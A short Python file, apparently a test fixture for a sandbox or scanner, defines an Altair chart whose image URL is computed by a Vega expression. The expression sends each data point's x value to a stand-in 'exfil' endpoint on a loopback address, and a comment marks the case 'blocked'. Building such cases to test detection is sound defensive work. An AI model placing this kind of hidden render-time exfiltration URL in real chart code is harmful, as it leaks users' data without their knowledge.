"""The image URL computed by a Vega expression at render time (no literal URL in the spec)."""  # runtime: blocked
# ruff: noqa
import altair as alt
import pandas as pd


def plot(data: pd.DataFrame) -> alt.Chart:
    return alt.Chart(data).mark_image(
        width=20, height=20, url=alt.expr("'http://127.0.0.1:9/exfil?x=' + datum.x")
    ).encode(x="x:Q", y="y:Q")
